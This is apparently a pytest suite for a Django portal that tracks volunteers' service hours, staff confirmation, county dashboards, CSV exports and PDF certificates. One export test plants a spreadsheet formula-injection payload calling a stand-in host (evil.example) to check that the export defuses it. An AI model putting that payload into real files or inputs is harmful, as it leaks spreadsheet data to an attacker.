"""Volunteers' service hours: recorded with a visit or an outreach session, confirmed by
community staff, totalled for the volunteer, teams, communities and the county dashboard."""

import datetime
import shutil
import subprocess

import pytest
from django.utils import timezone, translation

from casework import services
from casework.models import ServiceHours
from portal import months
from portal.dashboards import rollup
from tests.casework.factories import CaseChildFactory, VolunteerFactory

pytestmark = pytest.mark.django_db


def log_visit(client, child, minutes, on: datetime.date | None = None):
    return client.post(
        f"/care/children/{child.pk}/visit/",
        {
            "kind": "home",
            "date": (on or timezone.localdate()).isoformat(),
            "notes": "一起读书",
            "minutes": minutes,
        },
    )


@pytest.fixture
def two_visits(client, volunteer, paired_child):
    """90 and 45 minutes, two days apart where the month allows: the pages below total this
    month and this year, so on the 1st of a month both visits are on that day."""
    today = timezone.localdate()
    client.force_login(volunteer)
    log_visit(
        client, paired_child, 90, on=max(today - datetime.timedelta(days=2), today.replace(day=1))
    )
    log_visit(client, paired_child, 45, on=today)
    client.logout()
    return ServiceHours.objects.order_by("minutes")


def test_a_volunteers_visit_records_unconfirmed_minutes(two_visits, volunteer_record):
    assert [(h.minutes, h.volunteer_id) for h in two_visits] == [
        (45, volunteer_record.pk),
        (90, volunteer_record.pk),
    ]
    assert all(h.confirmed_at is None for h in two_visits)


def test_confirmed_90_and_45_minutes_read_2_h_15_min_for_volunteer_and_county(
    client, two_visits, volunteer, community_staff, official, county
):
    client.force_login(community_staff)
    response = client.post("/care/hours/", {"hours": [h.pk for h in two_visits]})
    assert response.status_code == 302
    assert ServiceHours.objects.confirmed().count() == 2

    rollup.refresh_month(months.current_month())
    with translation.override("en"):
        client.force_login(volunteer)
        mine = client.get("/care/hours/mine/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
        client.force_login(official)
        county_page = client.get(f"/dashboards/{county.code}/").content.decode()

    assert "2 小时 15 分钟" in mine or "2 h 15 min" in mine
    assert "2 小时 15 分钟" in county_page or "2 h 15 min" in county_page


def test_unconfirmed_hours_count_nowhere(client, two_visits, volunteer, official, county):
    rollup.refresh_month(months.current_month())
    client.force_login(volunteer)

    mine = client.get("/care/hours/mine/").content.decode()

    assert "2 小时 15 分钟" in mine  # waiting for confirmation, and said so
    assert "等待社区工作人员确认" in mine
    from portal.dashboards.models import RegionIndicator

    row = RegionIndicator.objects.get(region=county, key="cw_volunteer_minutes")
    assert row.value == 0


def test_staff_of_another_community_cannot_confirm_even_with_the_ids(client, two_visits, outsider):
    client.force_login(outsider)

    client.post("/care/hours/", {"hours": [h.pk for h in two_visits]})

    assert services.hours_confirm(hours_ids=[h.pk for h in two_visits], by=outsider) == 0
    assert not ServiceHours.objects.confirmed().exists()


def test_volunteers_and_outsiders_do_not_see_the_staff_hours_page(client, volunteer, outsider):
    client.force_login(volunteer)
    assert client.get("/care/hours/").status_code == 404
    assert client.get("/care/hours/export.csv").status_code == 404


@pytest.mark.parametrize("minutes", ["0", "721", "-5", "abc"])
def test_implausible_minutes_are_a_form_error_and_store_nothing(
    client, volunteer, paired_child, minutes
):
    client.force_login(volunteer)

    response = log_visit(client, paired_child, minutes)

    assert response.status_code == 200
    assert response.context["form"].errors["minutes"]
    assert not ServiceHours.objects.exists()
    assert not paired_child.visits.exists()


def test_staff_recording_a_visit_gives_no_service_hours(client, community_staff, child):
    client.force_login(community_staff)

    page = client.get(f"/care/children/{child.pk}/visit/")
    log_visit(client, child, 60)

    assert "minutes" not in page.context["form"].fields
    assert child.visits.count() == 1
    assert not ServiceHours.objects.exists()


def test_outreach_session_gives_each_helper_confirmed_minutes(client, community_staff, community):
    helpers = [VolunteerFactory(community=community) for _ in range(2)]
    client.force_login(community_staff)

    response = client.post(
        "/care/outreach/new/",
        {
            "region": community.region.pk,
            "kind": "legal_education",
            "title": "法治宣传进校园",
            "organiser": "procuratorate",
            "school": "东朗小学",
            "date": timezone.localdate().isoformat(),
            "attendance": 120,
            "volunteers": [v.pk for v in helpers],
            "minutes_each": 120,
        },
    )

    assert response.status_code == 302
    hours = ServiceHours.objects.all()
    assert sorted(h.volunteer_id for h in hours) == sorted(v.pk for v in helpers)
    assert all(h.minutes == 120 and h.confirmed_by == community_staff for h in hours)


def test_team_and_community_totals_for_staff(client, two_visits, community_staff, volunteer_record):
    services.hours_confirm(hours_ids=[h.pk for h in two_visits], by=community_staff)
    client.force_login(community_staff)

    page = client.get("/care/hours/").content.decode()

    assert volunteer_record.team.name in page
    assert "2 小时 15 分钟" in page


def test_registry_csv_has_masked_id_and_defused_formulas(
    client, community_staff, community, volunteer_record
):
    volunteer_record.id_number = "530828199001011234"
    volunteer_record.save()
    volunteer_record.team.name = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    volunteer_record.team.save()
    child = CaseChildFactory(community=community, registered_by=community_staff)
    visit = child.visits.create(
        kind="home", date=timezone.localdate(), visited_by=volunteer_record.user
    )
    hours = services.hours_record(
        volunteer=volunteer_record,
        minutes=90,
        region_id=community.region_id,
        date=visit.date,
        visit=visit,
        by=volunteer_record.user,
    )
    services.hours_confirm(hours_ids=[hours.pk], by=community_staff)
    client.force_login(community_staff)

    body = client.get("/care/hours/export.csv").content.decode("utf-8-sig")

    lines = body.splitlines()
    assert lines[0].split(",")[:3] == ["姓名", "身份证号码", "队伍"]
    assert "5308**********1234" in body
    assert "530828199001011234" not in body
    assert "1.50" in body
    assert "\"'=HYPERLINK" in body


def test_certificate_is_a_chinese_pdf_with_the_years_total(
    client, two_visits, volunteer, community_staff, tmp_path
):
    services.hours_confirm(hours_ids=[h.pk for h in two_visits], by=community_staff)
    client.force_login(volunteer)
    year = timezone.localdate().year

    response = client.get(f"/care/hours/certificate/{year}/")

    assert response["Content-Type"] == "application/pdf"
    pdf = tmp_path / "certificate.pdf"
    pdf.write_bytes(response.content)
    text = subprocess.run(  # noqa: S603 - a fixed poppler tool on a temporary file
        [shutil.which("pdftotext"), str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "志愿服务证明" in text
    assert "2 小时 15 分钟" in text


def test_certificate_of_another_volunteer_cannot_be_had(client, outsider):
    client.force_login(outsider)
    year = timezone.localdate().year

    assert client.get(f"/care/hours/certificate/{year}/").status_code == 404
